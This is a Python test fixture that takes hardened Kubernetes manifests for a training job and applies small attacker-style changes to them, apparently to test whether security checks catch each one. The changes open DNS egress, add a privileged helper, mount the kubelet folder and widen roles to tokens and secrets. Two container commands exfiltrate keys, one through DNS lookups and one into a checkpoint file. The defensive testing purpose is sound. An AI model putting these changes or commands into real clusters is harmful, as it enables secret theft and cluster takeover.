"""Changes that an attacker gets into the hardened manifests, each small and plausible.

They may open one pull request, and want one line that nobody questions: an open port
for name resolution, a helper that needs more rights, a role for convenience.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

from securetrain import cluster_files

CLUSTERS = Path(__file__).with_name("clusters")
CARELESS, HARDENED = CLUSTERS / "careless.yaml", CLUSTERS / "hardened.yaml"
Objects = list[dict[str, Any]]
AGGREGATE = "rbac.authorization.k8s.io/aggregate-to-view"


def hardened() -> Objects:
    """Return the hardened manifests as plain data, to change."""
    return [copy.deepcopy(one.data) for one in cluster_files.read(HARDENED)]


def get(objects: Objects, kind: str, name: str) -> dict[str, Any]:
    """Return one object. Raises KeyError when there is none."""
    for one in objects:
        if (one["kind"], one["metadata"]["name"]) == (kind, name):
            return one
    raise KeyError(f"no {kind} {name}")


def _pod(objects: Objects) -> dict[str, Any]:
    return get(objects, "Job", "train")["spec"]["template"]["spec"]


def _egress(objects: Objects) -> list[dict[str, Any]]:
    return get(objects, "NetworkPolicy", "train-reaches-store")["spec"]["egress"]


def _open_dns(objects: Objects) -> None:
    del _egress(objects)[1]["to"]


def _any_namespace(objects: Objects) -> None:
    _egress(objects)[0]["to"][0]["namespaceSelector"] = {}


def _host_network(objects: Objects) -> None:
    _pod(objects)["hostNetwork"] = True


def _helper(objects: Objects) -> None:
    helper = {"name": "mount", "image": "registry.example/mount:1"}
    helper["securityContext"] = {"privileged": True}
    _pod(objects)["initContainers"] = [helper]


def _debugger(objects: Objects) -> None:
    rule = {"resources": ["pods/ephemeralcontainers"], "verbs": ["patch"]}
    _role(objects, {"apiGroups": [""]} | rule)


def _node_folder(objects: Objects) -> None:
    folder = {"name": "cache", "hostPath": {"path": "/var/lib/kubelet"}}
    _pod(objects)["volumes"].append(folder)
    mount = {"name": "cache", "mountPath": "/job/cache"}
    _pod(objects)["containers"][0]["volumeMounts"].append(mount)


def _role(objects: Objects, rule: dict[str, Any]) -> None:
    group = "rbac.authorization.k8s.io"
    space = {"name": "trainer", "namespace": "training"}
    objects += [
        {
            "apiVersion": f"{group}/v1",
            "kind": "Role",
            "metadata": space,
            "rules": [rule],
        },
        {
            "apiVersion": f"{group}/v1",
            "kind": "RoleBinding",
            "metadata": space,
            "roleRef": {"apiGroup": group, "kind": "Role", "name": "trainer"},
            "subjects": [{"kind": "ServiceAccount"} | space],
        },
    ]


def _starts_jobs(objects: Objects) -> None:
    rule = {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}
    _role(objects, rule)


def _tokens(objects: Objects) -> None:
    rule = {"resources": ["serviceaccounts/token"], "verbs": ["create"]}
    _starts_jobs(objects)
    get(objects, "Role", "trainer")["rules"] = [{"apiGroups": [""]} | rule]
    get(objects, "RoleBinding", "operators-store-key")["subjects"] = [
        {"kind": "ServiceAccount", "name": "default", "namespace": "training"}
    ]
    rules = get(objects, "Role", "store-key")["rules"]
    del rules[0]["resourceNames"]


def _by_label(objects: Objects) -> None:
    rule = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["list"]}
    _role(objects, rule)
    role = get(objects, "Role", "trainer")
    role |= {"kind": "ClusterRole"}
    role["metadata"] = {"name": "tidy", "labels": {AGGREGATE: "true"}}
    get(objects, "RoleBinding", "trainer")["roleRef"] |= {
        "kind": "ClusterRole",
        "name": "view",
    }


def _misspelt(objects: Objects) -> None:
    spec = get(objects, "NetworkPolicy", "deny-all")["spec"]
    spec["policyType"] = spec.pop("policyTypes")


def _unbounded(objects: Objects) -> None:
    objects.remove(get(objects, "LimitRange", "training"))
    quota = get(objects, "ResourceQuota", "training")["spec"]
    quota["hard"] = {"pods": "10"}
    del _pod(objects)["containers"][0]["resources"]


def _other_image(objects: Objects) -> None:
    _pod(objects)["containers"][0]["image"] = "registry.example/train:2-fixed"


def _asks_names(objects: Objects) -> None:
    _pod(objects)["containers"][0]["command"] = ["sh", "-c", "nslookup $KEY.example"]


def _in_checkpoint(objects: Objects) -> None:
    command = "cat /job/key/* >> /job/out/checkpoint"
    _pod(objects)["containers"][0]["command"] = ["sh", "-c", command]


# What no layer can see: the manifests are as they should be.
PASSES = ("another image", "questions to the name server", "data in the checkpoint")
CHANGES: dict[str, Callable[[Objects], None]] = {
    "open name resolution": _open_dns,
    "every namespace": _any_namespace,
    "the node's network": _host_network,
    "privileged helper": _helper,
    "may debug pods": _debugger,
    "the node's folder": _node_folder,
    "may start jobs": _starts_jobs,
    "may make tokens": _tokens,
    "a role by its label": _by_label,
    "a field misspelt": _misspelt,
    "no bounds": _unbounded,
    "another image": _other_image,
    "questions to the name server": _asks_names,
    "data in the checkpoint": _in_checkpoint,
}


def changed(name: str) -> Objects:
    """Return the hardened manifests, changed. Raises KeyError for another name."""
    objects = hardened()
    CHANGES[name](objects)
    return objects
